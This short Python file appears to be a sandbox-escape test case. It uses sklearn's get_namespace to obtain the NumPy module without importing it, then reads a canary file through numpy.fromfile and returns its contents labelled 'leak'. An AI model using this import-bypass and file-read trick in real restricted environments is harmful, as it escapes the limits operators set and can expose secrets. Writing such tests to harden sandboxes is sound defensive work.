# route: get_namespace gives the whole of NumPy as a value
from sklearn.metrics.pairwise import get_namespace


def execute(testData):
    module, _ = get_namespace([[1.0]])
    return {"leak": module.fromfile(testData["canary_path"], dtype="u1").tobytes().decode()}
